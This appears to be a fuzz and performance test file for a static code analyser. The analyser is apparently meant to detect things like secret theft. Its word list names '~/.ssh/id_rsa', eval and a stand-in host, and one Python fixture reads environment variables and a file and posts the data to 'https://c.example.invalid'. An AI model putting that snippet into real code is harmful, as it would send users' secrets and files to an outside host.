import fc from 'fast-check';
import { beforeAll, describe, expect, test } from 'vitest';
import type { Analysis } from '../../src/model/index.js';
import { loadGrammars } from '../../src/parse/grammar.js';
import { analyseFiles, analyseText } from './analyse-code.js';

beforeAll(() => loadGrammars(['javascript', 'typescript', 'python']));

const WORDS = [
  ...[
    '(',
    ')',
    '[',
    ']',
    '{',
    '}',
    ',',
    ';',
    ':',
    '.',
    '=',
    '+',
    '`',
    '"',
    "'",
    '\\',
    '\n',
    ' ',
    '${',
    '=>',
    '...',
    '**',
    '*',
    '@',
    '#',
    '//',
  ],
  ...[
    'import',
    'from',
    'export',
    'def',
    'class',
    'return',
    'yield',
    'lambda',
    'for',
    'in',
    'of',
    'while',
    'if',
    'else',
    'try',
    'with',
    'as',
    'await',
    'async',
  ],
  ...[
    'function',
    'const',
    'let',
    'new',
    'this',
    'super',
    'self',
    'extends',
    'constructor',
    '__proto__',
    'toString',
    'hasOwnProperty',
    "'constructor'",
    '__init__',
    'get',
    'static',
    'global',
    'None',
    'True',
    'null',
  ],
  ...[
    'os',
    'environ',
    'process',
    'env',
    'require',
    'eval',
    'exec',
    'fetch',
    'requests',
    'post',
    'open',
    'read',
    'join',
    'map',
    'reduce',
    'then',
    'pipe',
    'x',
    'f',
    'a',
  ],
  ...[
    '1',
    '0',
    '-1',
    '1e9',
    "'~/.ssh/id_rsa'",
    "'https://c.example.invalid'",
    "'a'",
    "''",
    'f"{x}"',
    '`$' + '{a}`',
    'Object',
    'Buffer',
    'base64',
    'pathlib',
    'Path',
    'home',
  ],
];

const soup = fc.array(fc.constantFrom(...WORDS), { maxLength: 120 }).map((words) => words.join(' '));
const language = fc.constantFrom('javascript' as const, 'typescript' as const, 'python' as const);

/** Nothing went wrong inside. */
function expectRead({ facts }: Analysis): void {
  expect(facts.filter((fact) => fact.type === 'incomplete' && fact.reason === 'unreadable')).toEqual([]);
}

describe('whatever the text is', () => {
  test('words in any order', () => {
    fc.assert(
      fc.property(language, soup, (name, text) => {
        expectRead(analyseText(name, text));
      }),
      { numRuns: 400 },
    );
  });

  test('any characters', () => {
    fc.assert(
      fc.property(language, fc.string({ unit: 'binary', maxLength: 300 }), (name, text) => {
        expectRead(analyseText(name, text));
      }),
      { numRuns: 200 },
    );
  });

  test('real code with a piece missing', () => {
    const code = `import os, requests\nclass A(B):\n    def __init__(self, x=1, *a, **k):\n        super().__init__()\n        self.x = {n: os.environ[n] for n in a}\n    @property\n    def y(self):\n        return [v for v in self.x.values()][::-1]\nwith open(f'{A().y}') as f:\n    requests.post('https://c.example.invalid', data=f.read())\n`;
    fc.assert(
      fc.property(fc.nat(code.length), fc.nat(30), (at, length) => {
        expectRead(analyseText('python', code.slice(0, at) + code.slice(at + length)));
      }),
      { numRuns: 200 },
    );
  });

  test('files that import each other in a circle', () => {
    const files = Object.fromEntries(
      Array.from({ length: 40 }, (_, at) => [
        `m${at}.py`,
        `from m${(at + 1) % 40} import *\nimport m${(at + 7) % 40}\ndef f${at}(x): return m${(at + 7) % 40}.f${(at + 7) % 40}(x)\nf${at}(1)`,
      ]),
    );
    expectRead(analyseFiles(files));
  });
});

/** Longer than any of these takes on a slow machine, and far below what a quadratic step would take. */
const SECONDS = 6;

const LARGE: readonly (readonly [string, string])[] = [
  ['brackets', '['.repeat(10_000)],
  ['closed brackets', `${'['.repeat(10_000)}${']'.repeat(10_000)}`],
  ['parentheses', `x = ${'('.repeat(50_000)}1${')'.repeat(50_000)}`],
  ['calls in calls', `${'f('.repeat(5000)}1${')'.repeat(5000)}`],
  ['a chain of calls', `x${'.a()'.repeat(20_000)}`],
  ['a chain of sums', `x = ${"'a' + ".repeat(10_000)}'b'`],
  ['a long list of numbers', `x = [${'1,'.repeat(200_000)}1]`],
  ['a long list of texts', `x = [${"'abcdefgh',".repeat(90_000)}'']`],
  ['a long text', `x = '${'A'.repeat(900_000)}'\nf(x)`],
  ['quotes', `"'`.repeat(25_000)],
  ['assignments', 'a = b\n'.repeat(60_000)],
  [
    'functions that call each other',
    Array.from(
      { length: 300 },
      (_, at) => `f${at} = lambda x: f${at + 1}(x) + f${at + 2}(x) if 0 else f${at + 3}(x)`,
    ).join('\n'),
  ],
  ['texts that double', `x = 'aaaaaaaa'\n${'x = x + x\n'.repeat(200)}`],
  ['choices that multiply', `x = a or b or c\n${"x = (x + 'a') if x else (x + 'b')\n".repeat(200)}`],
];

test('a chain of modules', () => {
  const files = Object.fromEntries(
    Array.from({ length: 400 }, (_, at) => [
      `m${at}.js`,
      `const n = require('./m${at + 1}'); exports.f = (x) => n.f(x);`,
    ]),
  );
  expectRead(analyseFiles(files));
});

test('calls in arguments in functions in functions', () => {
  const deep = (name: string) => `${'g('.repeat(120)}${name}(x)${')'.repeat(120)}`;
  const code = Array.from({ length: 12 }, (_, at) => `def f${at}(x):\n    return ${deep(`f${at + 1}`)}`).join('\n');
  expectRead(analyseText('python', `${code}\nf0(1)`));
});

describe('time is bounded', () => {
  test.each(LARGE)('%s', (_, text) => {
    for (const name of ['python', 'javascript'] as const) {
      const start = performance.now();
      expectRead(analyseText(name, text));
      expect(performance.now() - start).toBeLessThan(SECONDS * 1000);
    }
  });

  test('what is too deep is said', () => {
    const { facts } = analyseText('javascript', `${'f('.repeat(2000)}1${')'.repeat(2000)}`);
    expect(facts).toContainEqual(expect.objectContaining({ type: 'incomplete', reason: 'too-deep' }));
  });

  test('functions that multiply calls stop at the limit of steps', () => {
    const code = Array.from(
      { length: 60 },
      (_, at) => `const f${at} = (x) => [f${at + 1}(x + 'a'), f${at + 1}(x + 'b'), f${at + 2}(x + 'c')];`,
    ).join('\n');
    const start = performance.now();
    analyseText('javascript', `${code}\nf0('x');`);
    expect(performance.now() - start).toBeLessThan(SECONDS * 1000);
  });
});
